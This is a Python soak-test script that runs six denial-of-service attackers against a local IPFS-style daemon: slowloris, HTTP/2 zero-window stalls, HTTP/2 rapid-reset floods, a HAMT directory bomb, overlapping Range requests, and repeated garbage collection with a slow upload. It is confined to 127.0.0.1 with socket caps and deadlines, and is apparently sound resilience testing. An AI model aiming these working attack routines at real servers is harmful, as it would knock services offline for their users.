#!/usr/bin/env python3
"""attack.py NAME MANIFEST SECONDS -- one attacker of the soak test.

Runs attacker NAME against the daemon named in MANIFEST (tests/soak.sh
writes it: ports and CIDs) for SECONDS, then prints one JSON line of what it
saw.  127.0.0.1 only; each attacker has a hard deadline and a cap on its
sockets (all of them together stay under 200), and every socket operation
has a timeout, so nothing here outlives its deadline by more than a few
seconds.  Stdlib only; HTTP/2 by hand (h2.py).

  slowloris    60 gateway + 20 API connections sending a header byte a second
  zero-window  16 h2 connections, INITIAL_WINDOW_SIZE 0, 100 streams each on
               the 20 MB file, never a WINDOW_UPDATE
  rapid-reset  2 h2 connections at a time, HEADERS then RST_STREAM, ~20k
               streams/s; a connection the server ends is replaced (400 in all)
  hamt-bomb    4 loops fetching the bomb's HTML listing and CAR exports,
               giving up after 3 s
  range-flood  4 loops: Range: bytes=0-,0-,... (16 times) on the 20 MB file
  gc-storm     4 loops of /api/v0/repo/gc, and one /api/v0/add whose body
               comes a byte a second
"""
import collections
import http.client
import json
import selectors
import signal
import socket
import sys
import threading
import time

import h2

HOST = "127.0.0.1"
STOP = threading.Event()  # set by SIGTERM: the driver saw the daemon die


def live(deadline):
    return not STOP.is_set() and time.monotonic() < deadline


class Stats:
    """Counters and maxima shared by an attacker's threads."""

    def __init__(self):
        self.lock = threading.Lock()
        self.c = collections.Counter()
        self.mx = {}

    def inc(self, key, n=1):
        with self.lock:
            self.c[key] += n

    def max(self, key, v):
        with self.lock:
            self.mx[key] = max(self.mx.get(key, 0), round(v, 2))

    def dump(self):
        return dict(sorted(self.c.items())) | {"max_" + k: v for k, v in sorted(self.mx.items())}


def loops(st, n, fn):
    """Run fn() in n threads and wait for them; a thread's crash is counted."""
    def guarded():
        try:
            fn()
        except Exception as e:
            st.inc("crashed: %s: %s" % (type(e).__name__, e))
    ts = [threading.Thread(target=guarded, daemon=True) for _ in range(n)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()


def status_of(head):
    parts = head.split(b" ", 2)
    return parts[1].decode(errors="replace") if len(parts) > 1 else "?"


# ------------------------------------------------------------- slowloris

def slowloris(m, deadline, st):
    starts = [(m["gw"], "GET /ipfs/%s HTTP/1.1\r\n" % m["files"]["1k"]["cid"])] * 60 + \
             [(m["api"], "POST /api/v0/version HTTP/1.1\r\n")] * 20
    sel = selectors.DefaultSelector()

    def open_one(port, line):
        if st.c["connects"] >= 2000:
            return
        try:
            s = socket.create_connection((HOST, port), timeout=2)
            s.sendall((line + "Host: 127.0.0.1\r\nX-Slow: ").encode())
            s.setblocking(False)
        except OSError:
            st.inc("connect_errors")
            return
        st.inc("connects")
        sel.register(s, selectors.EVENT_READ, [port, line, time.monotonic(), 0.0])

    def closed(s, info, why):
        sel.unregister(s)
        s.close()
        st.inc(why)
        st.max("held_s", time.monotonic() - info[2])
        open_one(info[0], info[1])

    for port, line in starts:
        open_one(port, line)
    while live(deadline):
        for key, _ in sel.select(timeout=0.2):
            try:
                data = key.fileobj.recv(4096)
            except OSError:
                data = b""
            if data:
                st.inc("answered_" + status_of(data))
            closed(key.fileobj, key.data, "answered" if data else "closed_by_server")
        now = time.monotonic()
        for key in list(sel.get_map().values()):
            if now - key.data[3] >= 1.0:
                key.data[3] = now
                try:
                    key.fileobj.send(b"a")
                except OSError:
                    closed(key.fileobj, key.data, "closed_by_server")
    for key in list(sel.get_map().values()):
        st.max("held_s", time.monotonic() - key.data[2])
        st.inc("open_at_end")
        key.fileobj.close()


# ----------------------------------------------------------- HTTP/2 loops

def h2_pump(s, rd, st, on_frame=None):
    """Read what is waiting on s (non-blocking, at most 1 MiB), ACK
    SETTINGS/PING, count frames.  Return False once the server has closed
    the connection."""
    for _ in range(16):
        try:
            data = s.recv(1 << 16)
        except (BlockingIOError, InterruptedError, TimeoutError):
            return True
        except OSError:
            data = b""
        if not data:
            st.inc("closed_by_server")
            return False
        h2_frames(s, rd.feed(data), st, on_frame)
    return True


def h2_frames(s, frames, st, on_frame):
    """Count the frames, hand each to on_frame, send the ACKs owed."""
    for f in frames:
        ftype = f[0]
        if ftype == h2.DATA:
            st.inc("data_bytes", len(f[3]))
        elif ftype == h2.HEADERS:
            st.inc("responses")
        elif ftype == h2.RST_STREAM:
            st.inc("reset_by_server")
        elif ftype == h2.GOAWAY:
            st.inc("goaway_code_%d" % int.from_bytes(f[3][4:8], "big"))
        if on_frame:
            on_frame(f)
    ack = h2.answer(frames)
    if ack:
        try:
            s.sendall(ack)
        except OSError:
            st.inc("ack_not_sent")


def zero_window(m, deadline, st):
    path = "/ipfs/" + m["files"]["20m"]["cid"]
    conns = []
    for _ in range(16):
        try:
            s = h2.connect(HOST, m["gw"], [(h2.SETTINGS_INITIAL_WINDOW_SIZE, 0)])
            s.settimeout(2)
            rd = h2.Reader()
            frames = rd.feed(s.recv(1 << 16))
            n = min(h2.max_streams(frames), 100)
            s.sendall(h2.answer(frames) + b"".join(h2.get(2 * i + 1, path) for i in range(n)))
            st.inc("connects")
            st.inc("streams", n)
            s.setblocking(False)
            conns.append((s, rd, [2 * n + 1]))
        except OSError:
            st.inc("connect_errors")
    t0 = time.monotonic()
    while conns and live(deadline):
        for s, rd, nxt in list(conns):
            def reopen(f, s=s, nxt=nxt):  # keep the streams full: a reset one is replaced
                if f[0] == h2.RST_STREAM and nxt[0] < 2 ** 31 - 2:
                    try:
                        s.sendall(h2.get(nxt[0], path))
                        nxt[0] += 2
                        st.inc("streams")
                    except OSError:
                        st.inc("reopen_not_sent")
            if not h2_pump(s, rd, st, reopen):
                st.max("closed_after_s", time.monotonic() - t0)
                conns.remove((s, rd, nxt))
                s.close()
        time.sleep(0.05)
    st.inc("open_at_end", len(conns))
    for s, _, _ in conns:
        s.close()


def rapid_reset(m, deadline, st, rate=20000, batch=100):
    path = "/ipfs/" + m["files"]["1m"]["cid"]

    def one_conn():
        s, rd, sid = None, h2.Reader(), 1
        while live(deadline) and st.c["connects"] < 400:
            if s is None:
                try:
                    s = h2.connect(HOST, m["gw"])
                    s.settimeout(2)
                    rd, sid = h2.Reader(), 1
                    st.inc("connects")
                except OSError:
                    st.inc("connect_errors")
                    time.sleep(0.5)
                    continue
            t = time.monotonic()
            burst = b"".join(h2.get(sid + 2 * i, path) + h2.rst(sid + 2 * i) for i in range(batch))
            try:
                s.sendall(burst)
                sid += 2 * batch
                st.inc("streams", batch)
            except OSError as e:
                st.inc("send_" + type(e).__name__)
                time.sleep(0.1)
                s.close()
                s = None
                continue
            s.setblocking(False)
            alive = h2_pump(s, rd, st) and sid < 2 ** 31 - 2 * batch
            s.settimeout(2)
            if not alive:
                s.close()
                s = None
                time.sleep(0.1)
            time.sleep(max(0.0, batch / (rate / 2) - (time.monotonic() - t)))
        if s is not None:
            s.close()
    loops(st, 2, one_conn)


# ---------------------------------------------------- plain HTTP attackers

def fetch_raw(port, request, limit_s):
    """Send a raw request; read the answer for up to limit_s.  Returns
    (status, bytes read, timed out)."""
    s = socket.create_connection((HOST, port), timeout=min(limit_s, 5))
    t0, got, head = time.monotonic(), 0, b""
    buf = bytearray(1 << 20)
    try:
        s.sendall(request)
        while True:
            left = limit_s - (time.monotonic() - t0)
            if left <= 0:
                return status_of(head), got, True
            s.settimeout(left)
            try:
                n = s.recv_into(buf)
            except TimeoutError:
                return status_of(head), got, True
            if not n:
                return status_of(head), got, False
            if len(head) < 64:
                head += bytes(buf[:min(n, 64 - len(head))])
            got += n
    finally:
        s.close()


def hamt_bomb(m, deadline, st):
    base = "/ipfs/%s" % m["bomb"]
    kinds = [("html", base + "/", "text/html"),
             ("car", base + "?format=car", "application/vnd.ipld.car"),
             ("car-entity", base + "?format=car&dag-scope=entity", "application/vnd.ipld.car"),
             ("html", base + "/", "text/html")]
    it = iter(kinds)
    lock = threading.Lock()

    def one():
        with lock:
            kind, path, accept = next(it)
        while live(deadline) and st.c["requests"] < 2000:
            req = ("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: %s\r\n"
                   "Connection: close\r\n\r\n" % (path, accept)).encode()
            st.inc("requests")
            try:
                status, got, timed_out = fetch_raw(m["gw"], req, 3.0)
                st.inc("%s_%s%s" % (kind, status, "_gave_up_3s" if timed_out else ""))
                st.max(kind + "_bytes", got)
            except OSError as e:
                st.inc("%s_%s" % (kind, type(e).__name__))
                time.sleep(0.5)
            time.sleep(0.2)
    loops(st, len(kinds), one)


def range_flood(m, deadline, st):
    f = m["files"]["20m"]
    req = ("GET /ipfs/%s HTTP/1.1\r\nHost: 127.0.0.1\r\nRange: bytes=%s\r\n"
           "Connection: close\r\n\r\n" % (f["cid"], ",".join(["0-"] * 16))).encode()

    def one():
        while live(deadline) and st.c["requests"] < 500:
            st.inc("requests")
            t0 = time.monotonic()
            try:
                status, got, timed_out = fetch_raw(m["gw"], req, 20.0)
                st.inc("status_%s%s" % (status, "_gave_up_20s" if timed_out else ""))
                st.inc("total_bytes", got)
                st.max("answer_bytes", got)
                st.max("answer_s", time.monotonic() - t0)
            except OSError as e:
                st.inc(type(e).__name__)
                time.sleep(0.5)
    loops(st, 4, one)
    st.mx["file_bytes"] = f["size"]


def gc_storm(m, deadline, st):
    def gc():
        while live(deadline):
            t0 = time.monotonic()
            c = http.client.HTTPConnection(HOST, m["api"], timeout=max(1, deadline - t0 + 5))
            try:
                c.request("POST", "/api/v0/repo/gc")
                st.inc("gc_%d" % c.getresponse().status)
            except Exception as e:  # http.client's own errors are not OSErrors
                st.inc("gc_" + type(e).__name__)
                time.sleep(0.5)
            finally:
                c.close()
            st.max("gc_s", time.monotonic() - t0)

    def slow_upload():
        boundary = "slowboundary"
        head = ('--%s\r\nContent-Disposition: form-data; name="file"; filename="slow.txt"\r\n'
                'Content-Type: application/octet-stream\r\n\r\n' % boundary).encode()
        tail = ("\r\n--%s--\r\n" % boundary).encode()
        n = max(1, int(deadline - time.monotonic()))
        t0 = time.monotonic()
        try:
            s = socket.create_connection((HOST, m["api"]), timeout=10)
            s.sendall(("POST /api/v0/add?pin=false HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                       "Content-Type: multipart/form-data; boundary=%s\r\nContent-Length: %d\r\n"
                       "Connection: close\r\n\r\n" % (boundary, len(head) + n + len(tail))).encode()
                      + head)
            sent = 0
            while sent < n and live(deadline):
                s.sendall(b"s")
                sent += 1
                time.sleep(1.0)
            s.sendall(b"s" * (n - sent) + tail)
            st.inc("upload_body_bytes_slowly", sent)
            s.settimeout(15)
            answer = s.recv(4096)
            st.inc("upload_" + (status_of(answer) if answer else "no_answer"))
            s.close()
        except OSError as e:
            st.inc("upload_" + type(e).__name__)
        st.max("upload_s", time.monotonic() - t0)

    up = threading.Thread(target=slow_upload, daemon=True)
    up.start()
    loops(st, 4, gc)
    up.join()


ATTACKS = {"slowloris": slowloris, "zero-window": zero_window, "rapid-reset": rapid_reset,
           "hamt-bomb": hamt_bomb, "range-flood": range_flood, "gc-storm": gc_storm}


def main():
    name, manifest, secs = sys.argv[1], sys.argv[2], float(sys.argv[3])
    with open(manifest) as fh:
        m = json.load(fh)
    st = Stats()
    signal.signal(signal.SIGTERM, lambda *_: STOP.set())
    t0 = time.monotonic()
    try:
        ATTACKS[name](m, t0 + secs, st)
    except Exception as e:  # report it; the driver shows it beside the figures
        st.inc("crashed: %s: %s" % (type(e).__name__, e))
    out = {"attack": name, "ran_s": round(time.monotonic() - t0, 1)} | st.dump()
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
